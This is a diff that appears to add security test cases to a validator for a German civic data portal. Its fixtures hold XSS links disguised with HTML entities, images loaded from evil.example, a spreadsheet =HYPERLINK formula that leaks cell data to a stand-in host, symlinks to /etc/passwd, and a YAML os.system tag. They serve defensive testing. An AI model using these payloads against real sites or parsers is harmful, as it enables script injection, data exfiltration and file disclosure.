@@ -46,9 +46,15 @@ class Case:
     write: Mapping[str, Content] = field(default_factory=dict)   # files to create or overwrite
     edit: tuple[tuple[str, str, str], ...] = ()                  # (file, old text, new text)
     shows_as_text: tuple[tuple[str, str], ...] = ()              # (page, text) the built page shows literally
+    links: tuple[tuple[str, str], ...] = ()                      # (file, target): symbolic links to create
+    folders: tuple[str, ...] = ()                                # empty folders to create
 
     def apply(self, data: Path) -> None:
         """Make the editor's change in a copy of the fixture at ``data``."""
+        for rel, target in self.links:
+            (data / rel).symlink_to(target.replace("{data}", str(data)))
+        for rel in self.folders:
+            (data / rel).mkdir(parents=True)
         for rel, old, new in self.edit:
             path = data / rel
             text = path.read_text(encoding="utf-8")
@@ -78,6 +84,18 @@ def alias_bomb() -> bytes:
         name, previous = chr(97 + level), chr(96 + level)
         lines.append(f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 10) + "]")
     return ("\n".join(lines) + "\nname: Bombe\n").encode()
+
+
+def dense_file() -> bytes:
+    """Just under the size limit, but tens of thousands of values: pasted-in data, not content."""
+    head = b"name: Dicht\ndescription: x\nsources: ["
+    count = (MAX_FILE_BYTES - len(head) - 10) // 3
+    return head + b", ".join([b"a"] * count) + b"]\n"
+
+
+def endless_number() -> bytes:
+    """An integer of 5,000 digits, more than Python converts from text (4,300)."""
+    return b"name: Zahl\ndescription: " + b"1" * 5000 + b"\n"
 
 
 def deep_nesting() -> bytes:
@@ -373,6 +391,104 @@ CASES: list[Case] = [
     Case("participant-both", "Beteiligter mit organisation und group",
          ("data/initiatives/masterplan-test.yaml:16:5: Feld 'participants[1]': braucht genau eines der Felder organisation (eine id) oder group (eine Beschreibung) – organisation und group stehen beide da: group nur verwenden, wenn die Quelle keine Organisation nennt",),
          edit=((INITIATIVE, "    role: leitung\n", "    group: Stadtrat\n    role: leitung\n"),)),
+    # --- security: links and images as the browser reads them -------------------------------
+    Case("link-javascript-entities", "javascript:-Link, versteckt hinter HTML-Zeichencodes",
+         ("data/topics/a.yaml:2:1: Feld 'description': der Link 'javascript&colon;alert(document.domain)' (im Browser: 'javascript:alert(document.domain)') wird nicht angezeigt: javascript:-Adressen führen Programmcode aus – erlaubt sind Adressen mit https://, http://, mailto: und Seiten dieser Website",
+          "data/topics/b.yaml:2:1: Feld 'description': der Link 'javascript&#58;alert(1)' (im Browser: 'javascript:alert(1)') wird nicht angezeigt: javascript:-Adressen führen Programmcode aus – erlaubt sind Adressen mit https://, http://, mailto: und Seiten dieser Website",
+          "data/topics/c.yaml:2:1: Feld 'description': der Link '&#106;avascript:alert(1)' (im Browser: 'javascript:alert(1)') wird nicht angezeigt: javascript:-Adressen führen Programmcode aus – erlaubt sind Adressen mit https://, http://, mailto: und Seiten dieser Website"),
+         write={"topics/a.yaml": "name: A\ndescription: '[Klick](javascript&colon;alert(document.domain))'\n",
+                "topics/b.yaml": "name: B\ndescription: '[Klick](javascript&#58;alert(1))'\n",
+                "topics/c.yaml": "name: C\ndescription: '[Klick](&#106;avascript:alert(1))'\n"}),
+    Case("link-other-schemes", "data:-, vbscript:-Link, Pfad auf dem eigenen Rechner und // ohne Protokoll",
+         ("data/documents/pm-zwei.md:6:1: Feld 'body': der Link 'data:text/html,x' wird nicht angezeigt: data:-Adressen enthalten den Inhalt selbst, statt auf eine Seite zu verweisen – erlaubt sind Adressen mit https://, http://, mailto: und Seiten dieser Website",
+          "data/documents/pm-zwei.md:7:1: Feld 'body': der Link 'VBScript:msgbox(1)' wird nicht angezeigt: vbscript:-Adressen führen Programmcode aus – erlaubt sind Adressen mit https://, http://, mailto: und Seiten dieser Website",
+          "data/documents/pm-zwei.md:8:1: Feld 'body': der Link 'C:\\Users\\pm.docx' wird nicht angezeigt: das ist ein Pfad auf dem eigenen Rechner – erlaubt sind Adressen mit https://, http://, mailto: und Seiten dieser Website",
+          "data/documents/pm-zwei.md:9:1: Feld 'body': der Link '//stadt.example/pm' wird nicht angezeigt: beginnt mit zwei Schrägstrichen und zeigt damit auf eine andere Website – die Adresse vollständig schreiben: https://stadt.example/pm"),
+         write={"documents/pm-zwei.md": '---\ntitle: Zwei\ntype: nachricht\ndate: "2020"\n---\n[eins](data:text/html,x)\n[zwei](VBScript:msgbox(1))\n'
+                '[drei](C:\\Users\\pm.docx)\n[vier](//stadt.example/pm)\n[fünf](https://stadt.example/ok) [sechs](../../partner/) [sieben](mailto:presse@stadt.example)\n'}),
+    Case("image-other-host", "Bilder von anderen Websites, auch über \\, &#47; und https: ohne //",
+         ("data/documents/pm-zwei.md:7:1: Feld 'body': das Bild '/\\evil.example/p.png' wird nicht angezeigt: beginnt mit zwei Schrägstrichen und zeigt damit auf eine andere Website – die Adresse vollständig schreiben: https://evil.example/p.png",
+          "data/documents/pm-zwei.md:8:1: Feld 'body': das Bild '&#47;/evil.example/q.png' (im Browser: '//evil.example/q.png') wird nicht angezeigt: beginnt mit zwei Schrägstrichen und zeigt damit auf eine andere Website – die Adresse vollständig schreiben: https://evil.example/q.png",
+          "data/documents/pm-zwei.md:9:1: Feld 'body': das Bild 'https:evil.example/z.png' wird nicht angezeigt: nach https: fehlen die zwei Schrägstriche und der Name der Website – die Adresse vollständig schreiben: https://evil.example/z.png",
+          "data/documents/pm-zwei.md:10:1: Feld 'body': das Bild 'https://evil.example/logo.png' wird nicht angezeigt: lädt ein Bild von einer anderen Website, die so von jedem Besuch erführe – das Bild nicht einbinden, sondern verlinken: [Beschreibung](https://…) ohne ! davor"),
+         write={"documents/pm-zwei.md": '---\ntitle: Zwei\ntype: nachricht\ndate: "2020"\n---\nText.\n![x](/\\evil.example/p.png)\n'
+                '![y](&#47;/evil.example/q.png)\n![z](https:evil.example/z.png)\n![Logo](https://evil.example/logo.png)\n'}),
+    Case("entity-in-title", "HTML-Zeichencodes in einem Titel",
+         ("data/initiatives/masterplan-test.yaml:1:1: Feld 'title': enthält den HTML-Zeichencode '&lt;', den Browser als '<' anzeigen – spitze Klammern sind in Namen und Titeln nicht erlaubt; den Text ohne sie schreiben",
+          "data/topics/neu.yaml:1:1: Feld 'name': enthält den HTML-Zeichencode '&auml;', den Browser als 'ä' anzeigen – das Zeichen selbst schreiben: 'ä' statt '&auml;'"),
+         edit=((INITIATIVE, "title: Masterplan Test", 'title: "A &lt;/title&gt; B"'),),
+         write={"topics/neu.yaml": "name: Gewerbefl&auml;chen & Handwerk\n"}),
+    Case("ampersand-in-name", "ein einfaches & in Namen und Titeln: angenommen",
+         (),
+         edit=((CHAMBER, "name: Kammer Test", "name: Kammer Test & Partner"), (INITIATIVE, "title: Masterplan Test", "title: Masterplan Test & AT&T")),
+         shows_as_text=(("partner/kammer-test/", "Kammer Test & Partner"),)),
+    Case("formula-title", "Titel und Namen, die mit = + - @ beginnen: angenommen (die CSV-Datei entschärft sie)",
+         (),
+         edit=((MEASURE, "title: Glasfaser bis 2020", 'title: \'=HYPERLINK("https://evil.example/?"&A1,"Details")\''),
+               (CHAMBER, "name: Kammer Test", 'name: "@Kammer Test"')),
+         shows_as_text=(("massnahmen/glasfaser/", '=HYPERLINK("https://evil.example/?"&A1,"Details")'),)),
+    # --- security: files outside data/ -------------------------------------------------------
+    Case("symlink-outside", "symbolische Verknüpfungen auf Dateien außerhalb des Projekts",
+         ("data/organisations/geheim.yaml:1:1: ist eine symbolische Verknüpfung (Symlink) und wird nicht gelesen – die Datei oder den Ordner selbst hierher legen; Verknüpfungen könnten Dateien außerhalb des Projekts veröffentlichen",
+          "data/topics/passwort.yaml:1:1: ist eine symbolische Verknüpfung (Symlink) und wird nicht gelesen – die Datei oder den Ordner selbst hierher legen; Verknüpfungen könnten Dateien außerhalb des Projekts veröffentlichen"),
+         links=(("topics/passwort.yaml", "/etc/passwd"), ("organisations/geheim.yaml", "../../../geheim.yaml"))),
+    Case("symlink-folder", "ein Ordner als symbolische Verknüpfung",
+         ("data/regions/mehr:1:1: ist eine symbolische Verknüpfung (Symlink) und wird nicht gelesen – die Datei oder den Ordner selbst hierher legen; Verknüpfungen könnten Dateien außerhalb des Projekts veröffentlichen",),
+         links=(("regions/mehr", "/etc"),)),
+    Case("empty-folder-named-like-a-file", "ein leerer Ordner namens neu.yaml",
+         ("data/topics/neu.yaml:1:1: 'neu.yaml' ist ein leerer Ordner, keine Datei – den Ordner löschen; Inhalte sind Dateien direkt in data/topics/",),
+         folders=("topics/neu.yaml",)),
+    # --- accepted by the check, then the build crashed ---------------------------------------
+    Case("region-self-parent", "Region als ihre eigene übergeordnete Region",
+         ("data/regions/teststadt.yaml:3:1: Feld 'parent': die Region ist als ihre eigene übergeordnete Region eingetragen – parent nennt die nächstgrößere Region; zuoberst steht das Land, ohne parent",),
+         edit=((("regions/teststadt.yaml"), "parent: land", "parent: teststadt"),)),
+    Case("region-cycle", "zwei Regionen, die einander als übergeordnete Region nennen",
+         ("data/regions/land.yaml:3:1: Feld 'parent': die Regionen verweisen im Kreis aufeinander: land → teststadt → land – parent nennt die nächstgrößere Region; zuoberst steht das Land, ohne parent",
+          "data/regions/teststadt.yaml:3:1: Feld 'parent': die Regionen verweisen im Kreis aufeinander: teststadt → land → teststadt – parent nennt die nächstgrößere Region; zuoberst steht das Land, ohne parent"),
+         edit=((("regions/land.yaml"), "kind: land", "kind: land\nparent: teststadt"),)),
+    Case("number-too-large", "Kennzahl mit 29 Stellen",
+         ("data/initiatives/masterplan-test.yaml:61:5: Feld 'key_figures[1].value': ist zu groß: erlaubt sind Zahlen bis 1.000.000.000.000.000 – Tippfehler? Große Beträge in einer größeren Einheit schreiben, z. B. value: 2.5 mit unit: Milliarden Euro",),
+         edit=((INITIATIVE, "value: 100000", "value: 11111111111111111111111111111"),)),
+    Case("number-exponent", "Kennzahl 1.0e+30",
+         ("data/initiatives/masterplan-test.yaml:61:5: Feld 'key_figures[1].value': ist zu groß: erlaubt sind Zahlen bis 1.000.000.000.000.000 – Tippfehler? Große Beträge in einer größeren Einheit schreiben, z. B. value: 2.5 mit unit: Milliarden Euro",),
+         edit=((INITIATIVE, "value: 100000", "value: 1.0e+30"),)),
+    Case("number-nan", "Kennzahl .nan",
+         ("data/initiatives/masterplan-test.yaml:61:5: Feld 'key_figures[1].value': ist keine Zahl (.nan steht in YAML für 'keine Zahl') – die Zahl aus der Quelle eintragen",),
+         edit=((INITIATIVE, "value: 100000", "value: .nan"),)),
+    Case("number-infinite", "Kennzahlen .inf und 1.0e+400",
+         ("data/initiatives/masterplan-test.yaml:61:5: Feld 'key_figures[1].value': ist unendlich (.inf, oder eine Zahl mit mehr als 308 Stellen) – die Zahl aus der Quelle eintragen",),
+         edit=((INITIATIVE, "value: 100000", "value: 1.0e+400"),)),
+    Case("number-endless", "eine Zahl mit 5.000 Ziffern",
+         ("data/topics/zahl.yaml:2:14: Feld 'description': die Zahl hat 5.000 Stellen und ist damit viel zu lang – Tippfehler? Zahlen ohne Tausenderpunkte und höchstens mit 15 Stellen schreiben",),
+         write={"topics/zahl.yaml": endless_number}),
+    Case("working-group-size-huge", "Größe eines Arbeitskreises mit zu vielen Stellen",
+         ("data/initiatives/masterplan-test.yaml:36:21: Feld 'working_groups[1].size.max': 20000000 ist zu groß – erwartet wird höchstens 100000",),
+         edit=((INITIATIVE, "size: {min: 15, max: 20}", "size: {min: 15, max: 20000000}"),)),
+    Case("date-year-9999", "Zieltermin 'Winter 9999'",
+         ("data/measures/glasfaser.yaml:8:1: Feld 'target': 'Winter 9999': das Jahr 9999 liegt außerhalb von 1900 bis 2100 – Tippfehler im Jahr?",),
+         edit=((MEASURE, 'target: "2020"', 'target: "Winter 9999"'),)),
+    Case("date-year-0000", "Datum '0000' in einer Quelle und als Zieltermin",
+         ("data/documents/pm-eins.md:4:1: Feld 'date': '0000': das Jahr 0 liegt außerhalb von 1900 bis 2100 – Tippfehler im Jahr?",
+          "data/measures/fertig.md:4:1: Feld 'target': '0000': das Jahr 0 liegt außerhalb von 1900 bis 2100 – Tippfehler im Jahr?"),
+         edit=((PRESS, 'date: "2017-03-20"', 'date: "0000"'), (MEASURE_MD, 'target: "2018"', 'target: "0000"'))),
+    Case("id-index", "Datei namens index.yaml",
+         ("data/topics/index.yaml:1:1: Feld 'Dateiname': die id 'index' ist nicht möglich: /themen/ ist die Übersichtsseite (docs/themen/index.md) – die Datei umbenennen; der Name wird Teil der Adresse, am besten nach dem Namen oder Titel des Eintrags",),
+         write={"topics/index.yaml": "name: Übersicht\n"}),
+    Case("yaml-tags", "YAML-Typangaben auf einer Liste, einem Abschnitt und einem Wert",
+         ("data/organisations/kammer-test.yaml:3:10: Feld 'sources': '!!python/object/apply:os.system' vor dem Wert ist eine YAML-Typangabe und nicht erlaubt – die Typangabe löschen; Text, der mit ! beginnt, in Anführungszeichen \"…\" setzen",
+          "data/topics/a.yaml:2:10: Feld 'sources': '!ENV' vor dem Wert ist eine YAML-Typangabe und nicht erlaubt – die Typangabe löschen; Text, der mit ! beginnt, in Anführungszeichen \"…\" setzen",
+          "data/topics/b.yaml:1:7: Feld 'name': '!!binary' vor dem Wert ist eine YAML-Typangabe und nicht erlaubt – die Typangabe löschen; Text, der mit ! beginnt, in Anführungszeichen \"…\" setzen",
+          "data/topics/c.yaml:2:14: Feld 'description': '!!set' vor dem Wert ist eine YAML-Typangabe und nicht erlaubt – die Typangabe löschen; Text, der mit ! beginnt, in Anführungszeichen \"…\" setzen"),
+         edit=((CHAMBER, "sources: [pm-eins]", "sources: !!python/object/apply:os.system [pm-eins]"),),
+         write={"topics/a.yaml": "name: A\nsources: !ENV [x]\n", "topics/b.yaml": "name: !!binary aGVsbG8=\n",
+                "topics/c.yaml": "name: C\ndescription: !!set {a, b}\n"}),
+    Case("file-name-nfd", "Dateiname mit ä in zerlegter Form (macOS, NFD)",
+         ("data/topics/fla\u0308chen-neu.yaml:1:1: Feld 'Dateiname': 'fla\u0308chen-neu.yaml' taugt nicht als Adresse der Seite: der Name enthält Umlaute oder ß – die Datei umbenennen in 'flaechen-neu.yaml'; erlaubt sind nur Kleinbuchstaben a–z, Ziffern und einzelne Bindestriche (Umlaute als ae, oe, ue, ß als ss)",),
+         write={"topics/fla\u0308chen-neu.yaml": "name: Flächen neu\n"}),
+    Case("dense-files", "zehn Dateien knapp unter der Größengrenze, voller Werte",
+         tuple(f"data/topics/dicht-{n}.yaml:3:59999: Die Datei enthält zu viele Einträge: mehr als 20.000 Werte; so viele liest das Portal aus einer Datei nicht – die Inhalte auf mehrere Dateien verteilen"
+               for n in range(10)),
+         write={f"topics/dicht-{n}.yaml": dense_file for n in range(10)}),
     Case("several-files-at-once", "mehrere Fehler in mehreren Dateien: alle auf einmal",
          ("data/regions/c.yaml:2:1: Feld 'kind': 'dorf' ist kein erlaubter Wert – erlaubt sind: stadt, kreis, region, land",
           "data/topics/a.yaml:2:1: Feld 'titel': ist kein bekanntes Feld – bekannte Felder: description, name",
